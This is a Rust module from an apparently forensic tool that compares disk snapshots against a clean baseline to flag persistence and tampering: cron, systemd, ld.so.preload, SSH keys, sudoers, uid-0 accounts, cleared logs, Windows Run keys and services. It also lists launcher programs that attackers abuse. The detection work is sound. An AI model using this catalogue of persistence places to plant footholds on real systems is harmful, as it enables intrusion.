//! Persistence and tampering: what a foothold leaves on disk, found by
//! comparing a snapshot's files with a baseline (the previous clean
//! snapshot). Without a baseline only what is suspicious on its own is
//! reported (a preload file, a second uid 0, executables in temp folders).

use crate::rules::Severity;
use cairn_guest::{FileEntry, FileKind, Filesystem};
use serde::{Deserialize, Serialize};
use std::collections::{HashMap, HashSet};

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Indicator {
    pub path: String,
    /// A short stable code: `cron`, `systemd`, `authorized_keys`…
    pub kind: String,
    pub severity: Severity,
    pub detail: String,
    /// The program it starts, when it names one by a path inside the
    /// guest (`/Users/Public/x.exe`, `/var/tmp/.x/run`): a rollback leaves
    /// it out with the foothold.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub target: Option<String>,
    /// Further files it runs: the script or library an interpreter or
    /// launcher it starts is given (`powershell -File C:\x.ps1`,
    /// `/bin/sh /var/tmp/run.sh`), the programs of its other lines. Left
    /// out of a rollback like `target`.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub also: Vec<String>,
}

impl Indicator {
    /// Every guest file this foothold runs ([`Indicator::target`], then
    /// [`Indicator::also`]).
    pub fn started(&self) -> impl Iterator<Item = &String> {
        self.target.iter().chain(&self.also)
    }
}

/// Indicators as they are found.
#[derive(Default)]
struct Found {
    out: Vec<Indicator>,
}

impl Found {
    fn push(&mut self, path: &str, kind: &str, severity: Severity, detail: String) {
        self.out.push(Indicator {
            path: format!("/{path}"),
            kind: kind.to_string(),
            severity,
            detail,
            target: None,
            also: Vec::new(),
        })
    }

    /// The last indicator pushed starts `commands` (command lines, a
    /// shortcut's target and arguments): the guest files they run.
    fn starts<'c>(&mut self, commands: impl IntoIterator<Item = &'c str>) {
        if let Some(last) = self.out.last_mut() {
            let mut files: Vec<String> = Vec::new();
            for f in commands.into_iter().flat_map(started_files) {
                if !files.contains(&f) {
                    files.push(f);
                }
            }
            let mut files = files.into_iter();
            last.target = files.next();
            last.also = files.collect();
        }
    }
}

/// Programs that run a file they are given (a script, a library, another
/// program): what a foothold starts through one is that file, not the
/// system's own interpreter.
const LAUNCHERS: [&str; 33] = [
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "ash",
    "busybox",
    "env",
    "nohup",
    "setsid",
    "nice",
    "timeout",
    "exec",
    "python",
    "perl",
    "ruby",
    "php",
    "node",
    "nodejs",
    "lua",
    "java",
    "powershell",
    "pwsh",
    "cmd",
    "wscript",
    "cscript",
    "mshta",
    "rundll32",
    "regsvr32",
    "msiexec",
    "conhost",
    "start",
    "schtasks",
];

/// Whether a word names a launcher: a bare name (`sh`, `python3.11`,
/// `powershell.exe`) or one in a system folder (`/usr/bin/python3`,
/// `C:\Windows\System32\rundll32.exe`). A "python3" in `/var/tmp` is
/// a planted program, not the system's interpreter.
fn is_launcher(word: &str) -> bool {
    let (dir, base) = match word.rfind(['/', '\\']) {
        Some(i) => (&word[..i + 1], &word[i + 1..]),
        None => ("", word),
    };
    let folder = dir.to_ascii_lowercase();
    let system = dir.is_empty()
        || [
            "/bin/",
            "/sbin/",
            "/usr/bin/",
            "/usr/sbin/",
            "/usr/libexec/",
        ]
        .contains(&dir)
        || ["/windows/", "c:\\windows\\", "%systemroot%\\", "%windir%\\"]
            .iter()
            .any(|w| folder.starts_with(w));
    let base = base.to_ascii_lowercase();
    let base = base.strip_suffix(".exe").unwrap_or(&base);
    // Versioned names: python3, python3.11, perl5.36.
    let name = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    system && (LAUNCHERS.contains(&name) || LAUNCHERS.contains(&base))
}

/// Places no file of a guest's disk lives: a command's `>/dev/null` is
/// not something it runs.
fn is_pseudo(path: &str) -> bool {
    ["/dev/", "/proc/", "/sys/"]
        .iter()
        .any(|p| path.starts_with(p))
}

/// Windows folders a command names by variable, as guest paths.
const WINDOWS_FOLDERS: [(&str, &str); 6] = [
    ("%systemroot%", "Windows"),
    ("%windir%", "Windows"),
    ("%programdata%", "ProgramData"),
    ("%allusersprofile%", "ProgramData"),
    ("%public%", "Users/Public"),
    ("%programfiles%", "Program Files"),
];

/// Extensions that end a Windows program's or script's path in a command
/// line (paths hold spaces, so a space does not end one).
const RUNNABLE: [&str; 9] = [
    ".exe", ".dll", ".bat", ".cmd", ".ps1", ".vbs", ".js", ".scr", ".com",
];

/// The Windows path that starts at byte `i` of `c` (a drive letter or a
/// known folder variable), as a guest path, and where it ends. `lower` is
/// `c` in ASCII lower case (the same byte offsets).
fn windows_path_at(c: &str, lower: &str, i: usize) -> Option<(String, usize)> {
    let b = c.as_bytes();
    // (`>`: a scheduled task's `<Command>C:\…</Command>`.)
    let boundary = i == 0 || matches!(b[i - 1], b' ' | b'"' | b'\'' | b'=' | b',' | b'(' | b'>');
    if !boundary {
        return None;
    }
    // A drive letter with a backslash (`a:/b` is as likely a Unix
    // argument), or a folder variable.
    let (root, body) =
        if b.len() > i + 3 && b[i].is_ascii_alphabetic() && b[i + 1] == b':' && b[i + 2] == b'\\' {
            ("", i + 3)
        } else {
            let (v, to) = WINDOWS_FOLDERS
                .iter()
                .find(|(v, _)| lower[i..].starts_with(v))?;
            (*to, i + v.len())
        };
    let rest = &c[body..];
    let skip = rest.len() - rest.trim_start_matches(['\\', '/']).len();
    let rest = &rest[skip..];
    let lower = &lower[body + skip..];
    let quoted = i > 0 && b[i - 1] == b'"';
    // Where the path can end at the latest: a quote, or (unquoted) the end
    // of a runnable file's extension, else the next space.
    let end = if quoted {
        rest.find('"').unwrap_or(rest.len())
    } else {
        let limit = rest.find(['"', ',', '<']).unwrap_or(rest.len());
        RUNNABLE
            .iter()
            .filter_map(|x| {
                let k = lower[..limit].find(x)? + x.len();
                // The whole extension, not a prefix (`.json` is no `.js`).
                let next = lower.as_bytes().get(k);
                next.is_none_or(|n| !n.is_ascii_alphanumeric()).then_some(k)
            })
            .min()
            .unwrap_or_else(|| rest[..limit].find(' ').unwrap_or(limit))
    };
    let path = rest[..end].replace('\\', "/");
    let joined = if root.is_empty() {
        path
    } else {
        format!("{root}/{path}")
    };
    (!joined.is_empty()).then(|| (format!("/{joined}"), body + skip + end))
}

/// Command lines longer than this are read only this far (a crafted
/// one-line file of megabytes must not stall a scan).
const MAX_COMMAND: usize = 64 << 10;
/// Files named per command line at most.
const MAX_STARTED: usize = 16;

/// One word of a command line, as [`started_files`] reads it.
enum Word {
    Path(String),
    Launcher,
    /// A switch (`-c`, `--quiet`, `/b`): says nothing of what runs.
    Switch,
    Other,
}

/// The guest files a command line runs, in order: its program when that
/// is named by a path (the first path, as far as can be told: a cron
/// line's times and user come before it), and the file given to an
/// interpreter or launcher (`/bin/sh /var/tmp/run.sh`, `powershell.exe
/// -File "C:\Users\Public\a b.ps1"`, `rundll32 C:\x.dll,Start`), which
/// is what really runs — its first operand only: what that program is
/// given in turn (`--db /var/lib/app.db`) is its data. The system's own
/// interpreters are not listed, nor, on Windows, files that cannot run.
pub fn started_files(command: &str) -> Vec<String> {
    let mut c = command.trim();
    if c.len() > MAX_COMMAND {
        let mut cut = MAX_COMMAND;
        while !c.is_char_boundary(cut) {
            cut -= 1;
        }
        c = &c[..cut];
    }
    let lower = c.to_ascii_lowercase();
    let mut words: Vec<(usize, Word)> = Vec::new();
    // Windows paths first (they hold spaces), then the words around them.
    let mut covered: Vec<std::ops::Range<usize>> = Vec::new();
    let mut i = 0;
    while i < c.len() && words.len() < 4 * MAX_STARTED {
        if c.is_char_boundary(i)
            && let Some((path, end)) = windows_path_at(c, &lower, i)
        {
            let runnable = RUNNABLE
                .iter()
                .any(|x| path.to_ascii_lowercase().ends_with(x));
            let w = if is_launcher(&c[i..end]) {
                Word::Launcher
            } else if runnable {
                Word::Path(path)
            } else {
                Word::Other
            };
            words.push((i, w));
            covered.push(i..end);
            i = end.max(i + 1);
            continue;
        }
        i += 1;
    }
    let windows = !words.is_empty() || lower.split_whitespace().any(|w| w.ends_with(".exe"));
    let separator = |ch: char| {
        ch.is_whitespace()
            || matches!(
                ch,
                '=' | '\'' | '"' | ';' | '(' | '`' | '|' | '&' | '<' | '>'
            )
    };
    let mut start = None;
    let mut spans = Vec::new();
    for (at, ch) in c.char_indices().chain([(c.len(), ' ')]) {
        match (separator(ch), start) {
            (true, Some(s)) => {
                spans.push(s..at);
                start = None;
            }
            (false, None) => start = Some(at),
            _ => {}
        }
        if spans.len() > 4096 {
            break;
        }
    }
    let mut next_cover = 0;
    for span in spans {
        while next_cover < covered.len() && covered[next_cover].end <= span.start {
            next_cover += 1;
        }
        if covered
            .get(next_cover)
            .is_some_and(|r| r.contains(&span.start))
        {
            continue;
        }
        let word = c[span.clone()].trim_end_matches(['&', '|', ')']);
        let w = if is_launcher(word) {
            Word::Launcher
        } else if word.starts_with('/')
            && word.len() > 1
            && !word.starts_with("//")
            // On a Windows line `/c`, `/quiet` are switches; a path with
            // folders in it is a path whatever else the line holds.
            && (!windows || word[1..].contains('/'))
        {
            Word::Path(word.to_string())
        } else if word.starts_with('-') || word.starts_with('/') {
            Word::Switch
        } else {
            Word::Other
        };
        words.push((span.start, w));
    }
    words.sort_by_key(|w| w.0);
    let mut out: Vec<String> = Vec::new();
    let mut launched = false;
    for (_, w) in words {
        match w {
            Word::Launcher => launched = true,
            Word::Switch => {}
            Word::Other => launched = false,
            Word::Path(p) if is_pseudo(&p) => {}
            Word::Path(p) => {
                if (out.is_empty() || launched) && !out.contains(&p) {
                    out.push(p);
                }
                launched = false;
            }
        }
        if out.len() >= MAX_STARTED {
            break;
        }
    }
    out
}

impl Indicator {
    pub fn severity_str(&self) -> &'static str {
        self.severity.as_str()
    }
}

/// Files read to compare lines are at most this large.
const MAX_TEXT: u64 = 1 << 20;
/// Lines quoted per finding.
const QUOTED_LINES: usize = 3;

/// One side of the comparison.
pub struct Side<'a> {
    pub fs: &'a dyn Filesystem,
    pub entries: &'a [FileEntry],
}

fn text(side: &Side, e: &FileEntry) -> Option<Vec<u8>> {
    if e.kind != FileKind::File || e.size > MAX_TEXT {
        return None;
    }
    cairn_guest::read_all(side.fs, e, MAX_TEXT).ok()
}

/// `data` as text: UTF-16 when it starts with a byte-order mark (Windows
/// writes scheduled tasks' XML that way), else UTF-8, lossily.
fn decode(data: &[u8]) -> String {
    let utf16 = |le| cairn_insight::content::utf16_lossy(&data[2..], le);
    match data {
        [0xff, 0xfe, ..] => utf16(true),
        [0xfe, 0xff, ..] => utf16(false),
        _ => String::from_utf8_lossy(data).into_owned(),
    }
}

/// Lines that matter (not blank, not comments).
fn lines(data: &[u8]) -> Vec<String> {
    decode(data)
        .lines()
        .map(|l| l.trim().to_string())
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .collect()
}

fn added_lines(old: Option<&[u8]>, new: &[u8]) -> Vec<String> {
    let before: HashSet<String> = old.map(lines).unwrap_or_default().into_iter().collect();
    lines(new)
        .into_iter()
        .filter(|l| !before.contains(l))
        .collect()
}

fn quote(lines: &[String]) -> String {
    let mut s: Vec<String> = lines
        .iter()
        .take(QUOTED_LINES)
        .map(|l| {
            let mut l = l.clone();
            if l.len() > 160 {
                let cut = (0..=160)
                    .rev()
                    .find(|&i| l.is_char_boundary(i))
                    .unwrap_or(0);
                l.truncate(cut);
                l.push('…');
            }
            format!("\"{l}\"")
        })
        .collect();
    if lines.len() > QUOTED_LINES {
        s.push(format!("and {} more", lines.len() - QUOTED_LINES));
    }
    s.join(", ")
}

/// Which persistence place a path is, if any (paths without a leading
/// slash; Windows places compared without case).
fn place(path: &str) -> Option<&'static str> {
    let lower = path.to_ascii_lowercase();
    let p = path;
    let under_user = |suffix: &str| {
        p.strip_prefix("root/").is_some_and(|r| r == suffix)
            || p.strip_prefix("home/")
                .and_then(|r| r.split_once('/'))
                .is_some_and(|(_, r)| r == suffix)
    };
    if p == "etc/crontab"
        || p == "etc/anacrontab"
        || p.starts_with("etc/cron.d/")
        || p.starts_with("etc/cron.hourly/")
        || p.starts_with("etc/cron.daily/")
        || p.starts_with("etc/cron.weekly/")
        || p.starts_with("etc/cron.monthly/")
        || p.starts_with("var/spool/cron/")
    {
        return Some("cron");
    }
    let unit = [".service", ".timer", ".socket", ".path"]
        .iter()
        .any(|s| p.ends_with(s));
    if unit
        && (p.starts_with("etc/systemd/system/")
            || p.starts_with("lib/systemd/system/")
            || p.starts_with("usr/lib/systemd/system/")
            || p.starts_with("etc/systemd/user/")
            || p.contains("/.config/systemd/user/"))
    {
        return Some("systemd");
    }
    if p == "etc/rc.local" || p.starts_with("etc/init.d/") {
        return Some("init_script");
    }
    if p == "etc/ld.so.preload" {
        return Some("ld_preload");
    }
    if p.ends_with("/.ssh/authorized_keys") || p.ends_with("/.ssh/authorized_keys2") {
        return Some("authorized_keys");
    }
    if p == "etc/sudoers" || p.starts_with("etc/sudoers.d/") {
        return Some("sudoers");
    }
    if p == "etc/profile"
        || p.starts_with("etc/profile.d/")
        || p == "etc/bash.bashrc"
        || p == "etc/environment"
        || [
            ".bashrc",
            ".profile",
            ".bash_profile",
            ".bash_login",
            ".zshrc",
        ]
        .iter()
        .any(|s| under_user(s))
    {
        return Some("shell_profile");
    }
    if lower.contains("/start menu/programs/startup/") {
        return Some("windows_startup");
    }
    if lower.starts_with("windows/system32/tasks/") {
        return Some("windows_task");
    }
    None
}

/// Whether a line of a persistence place names what runs: a unit's
/// `Exec…=` lines (not its `EnvironmentFile=` or `WorkingDirectory=`),
/// every line of a crontab, script or profile; none of sudoers (the
/// programs a user may run, not ones that run).
fn runs_what_it_names(kind: &str, line: &str) -> bool {
    match kind {
        "sudoers" => false,
        "systemd" => line.trim_start().starts_with("Exec"),
        _ => true,
    }
}

/// A file that runs without anyone starting it (a persistence place) or
/// sits in a world-writable temp folder. `path` has no leading slash.
pub fn runs_by_itself(path: &str) -> bool {
    place(path).is_some_and(|p| p != "authorized_keys" && p != "sudoers") || in_temp(path)
}

fn in_temp(path: &str) -> bool {
    path.starts_with("tmp/") || path.starts_with("var/tmp/") || path.starts_with("dev/shm/")
}

fn executable(side: &Side, e: &FileEntry) -> bool {
    if e.kind != FileKind::File {
        return false;
    }
    if e.mode.is_some_and(|m| m & 0o111 != 0) {
        return true;
    }
    let mut head = [0u8; 4];
    matches!(side.fs.read_at(e, 0, &mut head), Ok(4)) && &head == b"\x7fELF"
}

fn changed(old: &FileEntry, new: &FileEntry) -> bool {
    old.size != new.size || old.mtime_ns != new.mtime_ns || old.kind != new.kind
}

struct Account {
    uid: u32,
}

fn accounts(data: &[u8]) -> HashMap<String, Account> {
    String::from_utf8_lossy(data)
        .lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split(':').collect();
            (f.len() >= 7).then(|| {
                (
                    f[0].to_string(),
                    Account {
                        uid: f[2].parse().unwrap_or(u32::MAX),
                    },
                )
            })
        })
        .collect()
}

/// Accounts whose shadow entry went from no password to a usable one.
fn passwords_set(old: Option<&[u8]>, new: &[u8]) -> Vec<String> {
    let usable = |h: &str| !(h.is_empty() || h.starts_with('!') || h.starts_with('*'));
    let before: HashMap<String, bool> = old
        .map(|d| {
            String::from_utf8_lossy(d)
                .lines()
                .filter_map(|l| l.split_once(':'))
                .map(|(u, rest)| (u.to_string(), usable(rest.split(':').next().unwrap_or(""))))
                .collect()
        })
        .unwrap_or_default();
    String::from_utf8_lossy(new)
        .lines()
        .filter_map(|l| l.split_once(':'))
        .filter(|(u, rest)| {
            usable(rest.split(':').next().unwrap_or("")) && before.get(*u) == Some(&false)
        })
        .map(|(u, _)| u.to_string())
        .collect()
}

/// The text parsers of this module on arbitrary old and new content.
pub(crate) fn fuzz_text(old: &[u8], new: &[u8]) {
    let _ = accounts(new);
    let _ = passwords_set(Some(old), new);
    let _ = quote(&added_lines(Some(old), new));
}

/// The indicators in `new`, against `old` when there is a baseline.
pub fn indicators(old: Option<&Side>, new: &Side) -> Vec<Indicator> {
    let mut found = Found::default();
    let old_by_path: HashMap<&[u8], &FileEntry> = old
        .map(|o| o.entries.iter().map(|e| (e.path.as_slice(), e)).collect())
        .unwrap_or_default();
    let paths_added: HashSet<&[u8]> = new
        .entries
        .iter()
        .map(|e| e.path.as_slice())
        .filter(|p| old.is_some() && !old_by_path.contains_key(p))
        .collect();
    for e in new.entries {
        if e.unsafe_name {
            continue;
        }
        let path = String::from_utf8_lossy(&e.path);
        // Findings name the file escaped, as listings do: a crafted name
        // can neither forge a line nor pass for another file.
        let shown = || cairn_guest::model::escape(&e.path);
        let before = old_by_path.get(e.path.as_slice()).copied();
        let is_new = old.is_some() && before.is_none();
        let is_changed = before.is_some_and(|b| changed(b, e));

        // Executables dropped where anyone can write.
        if in_temp(&path) && (old.is_none() || is_new || is_changed) && executable(new, e) {
            found.push(
                &shown(),
                "temp_executable",
                Severity::Compromised,
                format!(
                    "executable {} in a world-writable temp folder",
                    if is_new || old.is_none() {
                        "placed"
                    } else {
                        "changed"
                    }
                ),
            );
        }
        // New set-uid / set-gid programs.
        let privileged = |m: Option<u32>| m.is_some_and(|m| m & 0o6000 != 0);
        if e.kind == FileKind::File && privileged(e.mode) && old.is_some() {
            let was = before.is_some_and(|b| privileged(b.mode));
            if !was || is_changed {
                found.push(
                    &shown(),
                    "setuid",
                    Severity::Warning,
                    format!(
                        "{} set-{}id program (mode {:o}, owner uid {})",
                        if !was && before.is_none() {
                            "new"
                        } else if !was {
                            "newly"
                        } else {
                            "changed"
                        },
                        if e.mode.unwrap_or(0) & 0o4000 != 0 {
                            "u"
                        } else {
                            "g"
                        },
                        e.mode.unwrap_or(0) & 0o7777,
                        e.uid.map(|u| u.to_string()).unwrap_or_else(|| "?".into()),
                    ),
                );
            }
        }
        // Cleared logs: shrank to (almost) nothing without a rotation.
        if let Some(b) = before
            && path.starts_with("var/log/")
            && e.kind == FileKind::File
            && b.size >= 1024
            && e.size * 10 < b.size
        {
            let rotated = [".1", ".1.gz", "-1", ".0"].iter().any(|s| {
                let mut p = e.path.clone();
                p.extend_from_slice(s.as_bytes());
                paths_added.contains(p.as_slice())
                    || new.entries.iter().any(|x| {
                        x.path == p && old_by_path.get(p.as_slice()).is_none_or(|o| changed(o, x))
                    })
            });
            if !rotated {
                found.push(
                    &shown(),
                    "log_cleared",
                    Severity::Warning,
                    format!(
                        "log shrank from {} to {} bytes without a rotation",
                        b.size, e.size
                    ),
                );
            }
        }
        if e.kind != FileKind::File && e.kind != FileKind::Symlink {
            continue;
        }
        if path == "etc/passwd" {
            let Some(now) = text(new, e) else { continue };
            let then = before.zip(old).and_then(|(b, o)| text(o, b));
            let prior = then.as_deref().map(accounts).unwrap_or_default();
            for (name, acc) in accounts(&now) {
                if acc.uid == 0 && name != "root" && prior.get(&name).is_none_or(|p| p.uid != 0) {
                    found.push(
                        &shown(),
                        "uid0_account",
                        Severity::Compromised,
                        format!("account {name} has uid 0 (root's powers)"),
                    );
                } else if old.is_some() && before.is_some() && !prior.contains_key(&name) {
                    found.push(
                        &shown(),
                        "new_account",
                        Severity::Warning,
                        format!("new account {name} (uid {})", acc.uid),
                    );
                }
            }
            continue;
        }
        if path == "etc/shadow" && old.is_some() {
            let Some(now) = text(new, e) else { continue };
            let then = before.zip(old).and_then(|(b, o)| text(o, b));
            for name in passwords_set(then.as_deref(), &now) {
                found.push(
                    &shown(),
                    "password_set",
                    Severity::Warning,
                    format!("a password was set for {name}, which had none"),
                );
            }
            continue;
        }
        if old.is_some()
            && (is_new || is_changed)
            && let Some(hive) = hive_kind(&path)
        {
            let then = before.zip(old).and_then(|(b, o)| read_hive(o, b));
            match read_hive(new, e) {
                Some(now) => {
                    for (kind, detail, command) in registry_changes(hive, then.as_deref(), &now) {
                        found.push(&shown(), kind, Severity::Warning, detail);
                        found.starts(command.as_deref());
                    }
                }
                None => found.push(
                    &shown(),
                    "windows_registry",
                    Severity::Warning,
                    "registry hive changed but could not be read".into(),
                ),
            }
            continue;
        }
        let Some(kind) = place(&path) else { continue };
        if kind == "ld_preload" {
            // Suspicious on its own: almost no system has one.
            if e.size > 0 && (old.is_none() || is_new || is_changed) {
                let listed = text(new, e).map(|t| lines(&t)).unwrap_or_default();
                found.push(
                    &shown(),
                    kind,
                    Severity::Compromised,
                    format!("libraries preloaded into every program: {}", quote(&listed)),
                );
                // The libraries are what it starts (a rollback leaves a
                // planted one out with the file): separated by spaces or
                // colons, as the loader reads them.
                let libraries: Vec<&str> = listed
                    .iter()
                    .flat_map(|l| l.split(|c: char| c.is_whitespace() || c == ':'))
                    .filter(|l| l.starts_with('/'))
                    .collect();
                found.starts(libraries);
            }
            continue;
        }
        if old.is_none() || !(is_new || is_changed) {
            continue;
        }
        let what = match kind {
            "cron" => "cron entry",
            "systemd" => "systemd unit",
            "init_script" => "boot script",
            "authorized_keys" => "SSH key allowed to log in",
            "sudoers" => "sudo rule",
            "shell_profile" => "shell start-up command",
            "windows_startup" => "program started at log-on",
            _ => "scheduled task",
        };
        if kind == "windows_startup"
            && e.kind == FileKind::File
            && path.to_ascii_lowercase().ends_with(".lnk")
        {
            let now = text(new, e).and_then(|d| crate::lnk::parse(&d));
            let then = before
                .zip(old)
                .and_then(|(b, o)| text(o, b))
                .and_then(|d| crate::lnk::parse(&d));
            if !is_new && now == then {
                continue;
            }
            let state = if is_new { "new" } else { "changed" };
            let detail = match &now {
                Some(s) => format!("{state} {what}: shortcut to {}", describe_shortcut(s)),
                None => format!("{state} {what}: a shortcut that could not be read"),
            };
            found.push(&shown(), kind, Severity::Warning, detail);
            // The target quoted (its path may hold spaces), then what it
            // is given: `powershell.exe -File C:\x.ps1` runs the script.
            let command = now.as_ref().and_then(|s| {
                let t = s.target.as_deref()?;
                Some(format!("\"{t}\" {}", s.arguments.as_deref().unwrap_or("")))
            });
            found.starts(command.as_deref());
            continue;
        }
        let mut started = Vec::new();
        let detail = if e.kind == FileKind::Symlink {
            format!(
                "{} {what}: link to {}",
                if is_new { "new" } else { "changed" },
                e.link_target
                    .as_ref()
                    .map(|t| String::from_utf8_lossy(t).into_owned())
                    .unwrap_or_default()
            )
        } else {
            let now = text(new, e).unwrap_or_default();
            let then = before.zip(old).and_then(|(b, o)| text(o, b));
            let added = added_lines(then.as_deref(), &now);
            if added.is_empty() && !is_new {
                // Only lines removed or reordered: not a new foothold.
                continue;
            }
            started = added
                .iter()
                .filter(|l| runs_what_it_names(kind, l))
                .cloned()
                .collect();
            if added.is_empty() {
                format!("new {what} file")
            } else if matches!(kind, "systemd" | "init_script") {
                // One file is one unit or script: its lines are not units.
                // What it runs says most.
                format!(
                    "{} {what}: {}",
                    if is_new { "new" } else { "changed" },
                    quote(if started.is_empty() { &added } else { &started })
                )
            } else {
                format!(
                    "{} {what}{}: {}",
                    if is_new { "new" } else { "added" },
                    if added.len() > 1 { "s" } else { "" },
                    quote(&added)
                )
            }
        };
        found.push(&shown(), kind, Severity::Warning, detail);
        found.starts(started.iter().map(String::as_str));
    }
    found.out
}

/// "PROGRAM ARGUMENTS (in FOLDER)", as far as the shortcut says.
fn describe_shortcut(s: &crate::lnk::Shortcut) -> String {
    let mut out = s
        .target
        .clone()
        .unwrap_or_else(|| "an unnamed target".into());
    if let Some(a) = &s.arguments {
        out = format!("{out} {a}");
    }
    if let Some(w) = &s.working_dir {
        out = format!("{out} (in {w})");
    }
    out
}

pub(crate) fn fuzz_hive(data: &[u8]) {
    for kind in [Hive::Software, Hive::System, Hive::User] {
        let _ = registry_changes(kind, Some(data), data);
        let _ = registry_changes(kind, None, data);
    }
    if let Ok(h) = crate::registry::Hive::parse(data)
        && let Ok(Some(root)) = h.find(&[])
    {
        for (_, k) in h.subkeys(root).unwrap_or_default().into_iter().take(64) {
            let _ = h.values(k);
        }
    }
}

/// Which registry hive a path is (Windows paths compared without case).
fn hive_kind(path: &str) -> Option<Hive> {
    let lower = path.to_ascii_lowercase();
    match lower.as_str() {
        "windows/system32/config/software" => Some(Hive::Software),
        "windows/system32/config/system" => Some(Hive::System),
        _ if lower.starts_with("users/")
            && lower.ends_with("/ntuser.dat")
            && lower.matches('/').count() == 2 =>
        {
            Some(Hive::User)
        }
        _ => None,
    }
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Hive {
    Software,
    System,
    User,
}

fn read_hive(side: &Side, e: &FileEntry) -> Option<Vec<u8>> {
    if e.kind != FileKind::File || e.size > crate::registry::MAX_HIVE {
        return None;
    }
    cairn_guest::read_all(side.fs, e, crate::registry::MAX_HIVE).ok()
}

/// Run keys (values are programs started at boot or log-on).
const RUN_KEYS_MACHINE: &[&[&str]] = &[
    &["Microsoft", "Windows", "CurrentVersion", "Run"],
    &["Microsoft", "Windows", "CurrentVersion", "RunOnce"],
    &[
        "WOW6432Node",
        "Microsoft",
        "Windows",
        "CurrentVersion",
        "Run",
    ],
    &[
        "WOW6432Node",
        "Microsoft",
        "Windows",
        "CurrentVersion",
        "RunOnce",
    ],
];
const RUN_KEYS_USER: &[&[&str]] = &[
    &["Software", "Microsoft", "Windows", "CurrentVersion", "Run"],
    &[
        "Software",
        "Microsoft",
        "Windows",
        "CurrentVersion",
        "RunOnce",
    ],
];
const WINLOGON: &[&str] = &["Microsoft", "Windows NT", "CurrentVersion", "Winlogon"];

/// name → shown data of the values of `key` (empty when absent).
fn values_at(h: &crate::registry::Hive, key: &[&str]) -> Vec<(String, String)> {
    match h.find(key) {
        Ok(Some(k)) => h
            .values(k)
            .unwrap_or_default()
            .into_iter()
            .map(|v| (v.name.clone(), v.display()))
            .collect(),
        _ => Vec::new(),
    }
}

/// The control sets a SYSTEM hive boots from: the ones `Select` names
/// (Current, Default, LastKnownGood), the one in use first, then 001 and
/// 002 (where `Select` is missing or damaged).
fn control_sets(h: &crate::registry::Hive) -> Vec<String> {
    let select = values_at(h, &["Select"]);
    let mut sets: Vec<String> = ["Current", "Default", "LastKnownGood"]
        .iter()
        .filter_map(|want| {
            select
                .iter()
                .find(|(n, _)| n.eq_ignore_ascii_case(want))
                .and_then(|(_, v)| v.parse::<u32>().ok())
                .filter(|n| (1..=999).contains(n))
                .map(|n| format!("ControlSet{n:03}"))
        })
        .collect();
    sets.extend(["ControlSet001".to_string(), "ControlSet002".to_string()]);
    let mut seen = HashSet::new();
    sets.retain(|s| seen.insert(s.clone()));
    sets
}

/// Services: name → (ImagePath, Start), from the control sets the system
/// boots from (the one in use first).
fn services(h: &crate::registry::Hive) -> HashMap<String, (String, String)> {
    let mut out = HashMap::new();
    for set in control_sets(h) {
        let Ok(Some(k)) = h.find(&[set.as_str(), "Services"]) else {
            continue;
        };
        for (name, off) in h.subkeys(k).unwrap_or_default() {
            let vals = h.values(off).unwrap_or_default();
            let get = |n: &str| {
                vals.iter()
                    .find(|v| v.name.eq_ignore_ascii_case(n))
                    .map(|v| v.display())
                    .unwrap_or_default()
            };
            out.entry(name.to_ascii_lowercase())
                .or_insert((get("ImagePath"), get("Start")));
        }
    }
    out
}

/// What a hive gained since the baseline: Run values, Winlogon's Shell
/// and Userinit, services that start by themselves.
/// Each change: its kind, what it is, and the command it starts (a Run
/// value's data, a service's image path).
type Change = (&'static str, String, Option<String>);

fn registry_changes(kind: Hive, old: Option<&[u8]>, new: &[u8]) -> Vec<Change> {
    let Ok(now) = crate::registry::Hive::parse(new) else {
        return vec![(
            "windows_registry",
            "registry hive changed and is damaged (not a readable hive)".into(),
            None,
        )];
    };
    let then = old.and_then(|o| crate::registry::Hive::parse(o).ok());
    let mut out = Vec::new();
    let (run_keys, scope) = match kind {
        Hive::User => (RUN_KEYS_USER, "HKCU"),
        _ => (RUN_KEYS_MACHINE, "HKLM\\SOFTWARE"),
    };
    if kind != Hive::System {
        for key in run_keys {
            let before: HashMap<String, String> = then
                .as_ref()
                .map(|t| values_at(t, key))
                .unwrap_or_default()
                .into_iter()
                .collect();
            for (name, data) in values_at(&now, key) {
                if before.get(&name) != Some(&data) {
                    out.push((
                        "windows_run",
                        format!(
                            "{} Run value in {scope}\\{}: {name} = {data}",
                            if before.contains_key(&name) {
                                "changed"
                            } else {
                                "new"
                            },
                            key.join("\\")
                        ),
                        Some(data.clone()),
                    ));
                }
            }
        }
    }
    if kind == Hive::Software {
        let before: HashMap<String, String> = then
            .as_ref()
            .map(|t| values_at(t, WINLOGON))
            .unwrap_or_default()
            .into_iter()
            .collect();
        for (name, data) in values_at(&now, WINLOGON) {
            let watched = ["shell", "userinit"].contains(&name.to_ascii_lowercase().as_str());
            if watched && before.get(&name).is_some_and(|b| *b != data) {
                out.push((
                    "windows_winlogon",
                    format!("Winlogon {name} changed to {data}"),
                    Some(data.clone()),
                ));
            }
        }
    }
    if kind == Hive::System {
        let before = then.as_ref().map(services).unwrap_or_default();
        let mut now_services: Vec<(String, (String, String))> =
            services(&now).into_iter().collect();
        now_services.sort();
        for (name, (image, start)) in now_services {
            // Start 0-2: boot, system, automatic; 3 and 4 need a caller.
            let autostart = matches!(start.as_str(), "0" | "1" | "2");
            match before.get(&name) {
                None if autostart => out.push((
                    "windows_service",
                    format!("new service {name} started automatically (start {start}): {image}"),
                    Some(image.clone()),
                )),
                Some((old_image, _)) if *old_image != image && !image.is_empty() => out.push((
                    "windows_service",
                    format!("service {name} now runs {image} (was {old_image})"),
                    Some(image.clone()),
                )),
                // A disabled service made to start by itself (RemoteRegistry
                // turned on, say). Not one started on demand: Windows moves
                // its own (TrustedInstaller, BITS) between demand and
                // automatic while updates wait.
                Some((_, old_start)) if autostart && old_start == "4" => {
                    out.push((
                        "windows_service",
                        format!(
                            "service {name} now starts automatically (start {start}, was {old_start}): {image}"
                        ),
                        Some(image.clone()),
                    ))
                }
                _ => {}
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn run_values_and_services_added_to_hives_are_reported() {
        use crate::registry::testhive::{Key, sz, write};
